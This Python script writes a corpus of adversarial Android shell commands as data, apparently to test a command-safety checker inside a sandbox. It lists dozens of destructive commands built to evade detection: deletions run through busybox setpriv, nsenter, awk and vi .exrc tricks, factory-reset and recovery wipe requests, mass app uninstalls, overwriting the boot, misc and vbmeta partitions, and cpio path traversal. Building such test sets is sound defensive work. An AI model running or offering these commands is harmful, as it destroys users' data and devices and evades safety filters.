#!/usr/bin/env python3
"""Writes corpus.jsonl and unprovable.jsonl (round 4, attacker B: programs, files and paths).

Every command is Python data here; nothing goes through a host shell. prove.py runs them only
inside the tests/sandbox jail.
"""
import json
import pathlib

HERE = pathlib.Path(__file__).resolve().parent
MKSH_ONLY = {"shells": ["mksh"], "shells_why": "busybox sh runs its own rm applet, which refuses any path ending in `.`; Android's rm (toybox, what mksh runs here) deletes what the link points to"}

ACPI = None
EXRC = "/data/local/tmp/.exrc"

L = []


def add(family, cmd, note, **kw):
    L.append({"family": family, "cmd": cmd, "note": note, **kw})


# ---- runner: programs not known as runners that run their arguments or stdin ----
add("runner", "busybox setpriv --nnp rm -rf /vendor",
    "busybox `setpriv` (util-linux style privilege setter) with only --nnp runs the rest of its argv as a command: rm -rf /vendor")
add("runner", "busybox setpriv --nnp sh -c 'cd /data && rm -rf app'",
    "busybox setpriv runs `sh -c`, whose script enters /data and deletes the relative `app`: /data/app (all installed apks)")
add("runner", "busybox nsenter rm -rf /vendor",
    "busybox `nsenter` with no namespace option enters nothing and simply execs its argv: rm -rf /vendor")
add("runner", "busybox nsenter -- rm -rf /data/user/0/*",
    "busybox nsenter after `--` execs rm over /data/user/0/* (the link to /data/data): every app's data")
add("runner", "busybox nsenter sh -s <<'EOF'\nrm -rf /data/misc\nEOF",
    "busybox nsenter runs `sh -s`, which reads the here-document: rm -rf /data/misc (wifi, keys, system state)")
add("runner", "echo 'rm -rf /vendor' | busybox unshare",
    "busybox `unshare` with no flags and no command runs $SHELL (or /bin/sh), which reads the piped text as its script: the program looks like a namespace tool, not a shell")
add("runner", "awk 'BEGIN{print \"rm -rf /vendor\" | \"sh\"}'",
    "awk output redirection into a command: `print … | \"sh\"` pipes the text into a shell (not system() or getline)")
add("runner", "echo /product | awk '{print \"rm -rf \" $1 | \"sh\"}'",
    "awk builds the command from its input line and pipes it to `sh` with `print | \"sh\"`: rm -rf /product")
add("runner", "printf '!rm -rf /vendor\\n' > /data/local/tmp/.exrc; HOME=/data/local/tmp busybox vi -c 'q!' /dev/null",
    "busybox vi reads $HOME/.exrc at start-up (when EXINIT is unset); a `!cmd` line in it runs the shell. The command text only writes a dot-file and opens /dev/null in vi")
add("runner", "printf 'iface lo inet manual\\n  down rm -rf /vendor\\n' > /data/local/tmp/if; busybox ifdown -f -i /data/local/tmp/if lo",
    "busybox ifdown runs the `down` lines of an interfaces file (-i) through the shell when the interface is taken down")

# ---- wipe: factory reset / test harness / recovery file by new programs ----
add("wipe", "echo 'cmd testharness enable' | busybox nsenter",
    "busybox nsenter with no arguments runs a shell on stdin; the piped text enables test-harness mode (wipes accounts and data)")
add("wipe", "busybox setpriv --nnp am broadcast -a android.intent.action.FACTORY_RESET -p android",
    "FACTORY_RESET broadcast run through busybox setpriv, a wrapper that execs its argv")
add("wipe", "awk 'BEGIN{printf \"am broadcast -a android.intent.action.MASTER_CLEAR\\n\" | \"/system/bin/sh\"; close(\"/system/bin/sh\")}'",
    "awk `printf … | \"/system/bin/sh\"`: the MASTER_CLEAR broadcast is data printed into a pipe to the shell")
add("wipe", "printf '!cmd testharness enable\\n' > /data/local/tmp/.exrc; HOME=/data/local/tmp busybox vi -c 'q!' /dev/null",
    "busybox vi runs the `!cmd` line of $HOME/.exrc at start-up: cmd testharness enable")
add("wipe", "echo --wipe_data > /data/local/tmp/n; printf 'w! /cache/recovery/command\\n' > /data/local/tmp/.exrc; HOME=/data/local/tmp busybox vi -c 'q!' /data/local/tmp/n",
    "$HOME/.exrc holds `w! /cache/recovery/command`: vi writes the buffer (--wipe_data) to the recovery command file before `-c q!` quits")
add("wipe", "printf 'iface lo inet manual\\n  pre-down cmd testharness enable\\n' > /data/local/tmp/if; busybox ifdown -f -i /data/local/tmp/if lo",
    "busybox ifdown runs the `pre-down` line of the interfaces file: cmd testharness enable")
add("wipe", "cd /data/local/tmp && : > ./--wipe_data && tar -cf /cache/recovery/command -- --wipe_data",
    "a tar 'backup' written to /cache/recovery/command: the archive starts with the member name `--wipe_data` then NULs, and recovery reads the first line as a C string, so it is a wipe request (the sandbox counts the file written)")
add("wipe", "cd /data/local/tmp && mkdir -p pk/cache/recovery && echo --wipe_data > pk/cache/recovery/command && tar -cf - -C pk cache | gzip > data.tar.gz && n=$(wc -c < data.tar.gz) && { printf '!<arch>\\n'; printf '%-16s%-12s%-6s%-6s%-8s%-10s`\\n' data.tar.gz 0 0 0 100644 $n; cat data.tar.gz; [ $((n % 2)) = 0 ] || printf '\\n'; } > p.deb && busybox dpkg-deb -x p.deb /",
    "a .deb assembled by hand (an ar header by printf around a data.tar.gz, padded to even length) and extracted with busybox dpkg-deb -x into /: it writes cache/recovery/command (--wipe_data)")
add("wipe", "cd /data/local/tmp && echo --wipe_data > j && { printf '!<arch>\\n'; printf '%-16s%-12s%-6s%-6s%-8s%-10s`\\n' command/ 0 0 0 100644 12; cat j; } > l.a && cd /cache/recovery && busybox ar x /data/local/tmp/l.a",
    "an ar archive made with printf has one member named `command`; busybox ar x extracts into the working directory, /cache/recovery: the recovery command file with --wipe_data")
add("wipe", "mkdir -p /data/local/tmp/s/a/b && cd /data/local/tmp/s/a/b && mkdir -p ../../../cache/recovery && echo --wipe_data > ../../../cache/recovery/command && echo ../../../cache/recovery/command | cpio -o -H newc > /data/local/tmp/p.cpio && cd /data/local/tmp && cpio -id < p.cpio",
    "cpio keeps `../` in member names: archived from three levels below /data/local/tmp (so it reads a scratch file), extracted in /data/local/tmp the same name climbs to / and writes /cache/recovery/command")

# ---- user removal ----
add("user", "CLASSPATH=/system/framework/pm.jar app_process /system/bin com.android.commands.pm.Pm remove-user 10",
    "app_process running the pm command's class (com.android.commands.pm.Pm from pm.jar) directly: remove-user 10 without the word `pm` as a program")
add("user", "busybox setpriv --nnp pm remove-user 10",
    "pm remove-user run through busybox setpriv")
add("user", "busybox unshare <<'EOF'\npm remove-user 10\nEOF",
    "busybox unshare with no command runs a shell that reads the here-document: pm remove-user 10")
add("user", "cmd package remove-user --wait 10",
    "the package service's own remove-user (`cmd package`, not `pm` or `cmd user`) with --wait")

# ---- mass-package ----
add("package", "for p in $(pm list packages -3 | cut -d: -f2); do CLASSPATH=/system/framework/pm.jar app_process /system/bin com.android.commands.pm.Pm uninstall $p; done",
    "every third-party package uninstalled through app_process running com.android.commands.pm.Pm (pm.jar) instead of pm")
add("package", "for p in com.example.app com.example.other com.whatsapp com.spotify.music; do CLASSPATH=/system/framework/pm.jar app_process / com.android.commands.pm.Pm clear $p; done",
    "four packages' data cleared through app_process + com.android.commands.pm.Pm, one per call")
add("package", "pm list packages -3 | awk -F: '{print $2 | \"xargs -n1 pm uninstall\"}'",
    "awk pipes each package name into a command (`print | \"xargs -n1 pm uninstall\"`): a device-computed mass uninstall")
add("package", "printf 'iface lo inet manual\\n  post-down ls /data/data | xargs -n1 pm clear\\n' > /data/local/tmp/if; busybox ifdown -f -i /data/local/tmp/if lo",
    "busybox ifdown runs the `post-down` line: clear every package named by a directory of /data/data")
add("package", "for d in /sdcard/Android/data/*/; do d=${d%/}; pm clear ${d##*/}; done",
    "package set computed from the folder names of the shared storage's Android/data (each app's external files dir)")
add("package", "find /data/app -name base.apk | sed 's,.*/\\([^/]*\\)-[0-9]*/base.apk,\\1,' | xargs -n1 pm uninstall",
    "package set computed from the install tree: /data/app/~~rand==/PKG-N/base.apk cut down to PKG, every installed app uninstalled")

# ---- block devices ----
add("block", "printf 'o\\nw\\n' | busybox fdisk /dev/block/mmcblk0",
    "busybox fdisk driven by stdin: `o` makes an empty DOS label, `w` writes it over the eMMC's partition table")
add("block", "printf 'o\\nw\\n' | busybox fdisk /dev/block/by-name/userdata",
    "busybox fdisk `o` + `w` writes a fresh partition table into the userdata partition's first sector")
add("block", "cd /data/local/tmp && tar -cf /dev/block/by-name/misc log.txt",
    "tar create with the archive FILE being the misc partition (bootloader message): tar -c as a raw writer")
add("block", "cd /data/local/tmp && echo log.txt | cpio -o -H newc -F /dev/block/by-name/boot",
    "cpio -o with -F FILE: the archive is written over the boot partition")
add("block", "tar -czf /dev/block/by-name/vbmeta -C /data/local/tmp logs",
    "a gzipped tar of a log folder 'saved' to the vbmeta partition: verified boot fails")
add("block", "busybox start-stop-daemon -S -m -p /dev/block/by-name/misc -x /system/bin/true",
    "start-stop-daemon -m writes the started process's pid into the -p pidfile, here the misc partition (bootloader control block)")
add("block", "printf 'w! /dev/block/by-name/misc\\n' > /data/local/tmp/.exrc; HOME=/data/local/tmp busybox vi -c 'q!' /data/local/tmp/log.txt",
    "$HOME/.exrc makes busybox vi write the buffer to the misc partition before `-c q!` quits")

# ---- format ----
add("format", "busybox mkdosfs /dev/block/by-name/userdata",
    "busybox mkdosfs: a FAT formatter whose name is not mkfs*/mke2fs/make_ext4fs; it formats userdata")
add("format", "busybox mkdosfs -n DATA /dev/block/mmcblk0p13",
    "busybox mkdosfs with a volume label over the raw partition node of userdata")

# ---- writer: a program's side file over system state ----
add("writer", "busybox start-stop-daemon -S -m -p /data/system/packages.xml -x /system/bin/true",
    "start-stop-daemon -m -p FILE writes a pid into FILE: packages.xml replaced by a number (every app's registration lost)")
add("writer", "busybox start-stop-daemon -S -b -m -p /system/framework/framework.jar -x /system/bin/sleep -- 1",
    "a background sleep whose pidfile (-m -p) is framework.jar: the OS no longer boots")

add("writer", "mkdir -p /data/local/tmp/new && echo '<packages/>' > /data/local/tmp/new/packages.xml && ln -sf -t /data/system /data/local/tmp/new/packages.xml",
    "toybox ln -t DIR: only the directory /data/system is named as the destination; the link's name is the source's basename, so packages.xml is replaced by a link to a scratch file",
    shells=["mksh"], shells_why="busybox ln (what busybox sh runs) has no -t; Android's toybox ln, run by mksh here, has it")
add("writer", "mkdir -p /data/local/tmp/jar && : > /data/local/tmp/jar/framework.jar && cp -t /system/framework /data/local/tmp/jar/framework.jar",
    "cp -t DIR SOURCE: the file overwritten in /system/framework is named only by the scratch source's basename (an empty framework.jar)")
add("writer", "cd /data/local/tmp && mkdir -p upd && echo ro.x=1 > upd/build.prop && busybox cp -t /vendor upd/build.prop",
    "busybox cp -t /vendor: a relative 'update' file whose basename replaces /vendor/build.prop")
add("wipe", "mkdir -p /data/local/tmp/r && echo --wipe_data > /data/local/tmp/r/command && install -t /cache/recovery /data/local/tmp/r/command",
    "install -t DIR: the recovery command file is never spelled as a path; it is /cache/recovery plus the basename of a scratch file holding --wipe_data")

# ---- archive: member names that climb out ----
add("archive", "mkdir -p /data/local/tmp/s/a/b && cd /data/local/tmp/s/a/b && mkdir -p ../../../vendor && echo x > ../../../vendor/build.prop && echo ../../../vendor/build.prop | cpio -o -H newc > /data/local/tmp/p.cpio && cd /data/local/tmp && cpio -iu < p.cpio",
    "cpio keeps `../` in member names: archived from /data/local/tmp/s/a/b it names a scratch file, extracted in /data/local/tmp (-u) it overwrites /vendor/build.prop")
add("archive", "mkdir -p /data/local/tmp/s/a/b && cd /data/local/tmp/s/a/b && mkdir -p ../../../data/system && echo '<packages/>' > ../../../data/system/packages.xml && echo ../../../data/system/packages.xml | cpio -o -H newc > /data/local/tmp/p.cpio && cd /data/local/tmp && cpio -idu < p.cpio",
    "the same `../` member trick: the name is relative to a deeper staging dir when archived and to /data/local/tmp when extracted, so /data/system/packages.xml is replaced")

# ---- path: how programs resolve a path ----
add("path", "rm -rf /data/user/0/.", "toybox rm on LINK/. follows the link (/data/user/0 -> /data/data) and deletes its contents: every app's data; `rm -rf LINK/` would only remove the link", **MKSH_ONLY)
add("path", "rm -rf /mnt/sdcard/.", "toybox rm on /mnt/sdcard/. follows the chain /mnt/sdcard -> /sdcard -> /storage/self/primary -> /storage/emulated/0 and empties the whole storage", **MKSH_ONLY)
add("path", "rm -rf /sdcard/DCIM/.", "toybox rm deletes everything inside DCIM (then fails only on `.` itself): all of a top-level storage folder's contents", **MKSH_ONLY)
add("path", "mv -t /data/local/tmp /system/framework",
    "mv -t DIR puts the destination first: /system/framework (the last word, where a reader expects the destination) is the source moved away")
add("path", "busybox mv -t /data/local/tmp /sdcard/DCIM",
    "busybox mv -t: the storage folder that reads like a destination is moved out of the storage")
add("path", "ls -d /sdcard/*/ | xargs mv -t /data/local/tmp",
    "every top-level storage folder moved out through xargs + mv -t (destination given first, sources appended by xargs)")
add("path", "find / -maxdepth 1 -type l -exec rm {} +",
    "find selects by file type: every symlink in / (/sdcard, /etc, /bin, /cache, /d) is an entry of the root removed")
add("path", "find /data -maxdepth 1 -mindepth 1 ! -name local -exec rm -rf {} +",
    "find with a negated name: everything in /data except local/ (system, app, misc, data, media)")
add("path", "find /sdcard/ -mindepth 1 -maxdepth 1 -type d ! -name Android -exec rm -rf {} +",
    "find over the storage root keeping only Android/: DCIM, Download, Pictures, … deleted")
add("path", "awk '{print $2}' /proc/mounts | xargs rm -rf",
    "the targets are the mount points read from /proc/mounts (/, /data, /system, …), none written in the command")

# ---- lines the sandbox cannot judge ----
U = []


def unp(family, cmd, note, why):
    U.append({"family": family, "cmd": cmd, "note": note, "why": why})


unp("path", "mkdir -p /data/local/tmp/m && busybox mount -o bind /data/media/0 /data/local/tmp/m && rm -rf /data/local/tmp/m/*",
    "a bind mount makes a scratch directory an alias of the storage; deleting its contents empties the storage",
    "needs CAP_SYS_ADMIN (root on a device); the jail's uid 2000 cannot mount and `unshare -rm` is refused")
unp("block", "L=$(losetup -f --show /dev/block/by-name/userdata) && dd if=/dev/zero of=$L count=8",
    "a loop device over userdata: writing /dev/block/loopN writes the partition under a name that is not it",
    "the sandbox has no loop devices (its block devices are regular files)")
unp("storage", "content delete --uri content://media/external/file",
    "MediaProvider deletes the rows and the files of every media/download item of the shared storage",
    "`content` is a logging stub; no WIPE pattern or storage rule models MediaProvider deletes")
unp("block", "printf '/data/local/tmp/b b 600 0 0 179 0 - - -\\n' > /data/local/tmp/t; makedevs -d /data/local/tmp/t / && dd if=/dev/zero of=/data/local/tmp/b count=1",
    "toybox makedevs creates the eMMC's block node from a table file; dd then writes it",
    "mknod of a block node needs CAP_MKNOD, which the jail's uid lacks (the mknod stub is only used for the `mknod` program)")

(HERE / "corpus.jsonl").write_text("".join(json.dumps(r, ensure_ascii=False) + "\n" for r in L))
(HERE / "unprovable.jsonl").write_text("".join(json.dumps(r, ensure_ascii=False) + "\n" for r in U))
print(len(L), "corpus lines;", len(U), "unprovable")
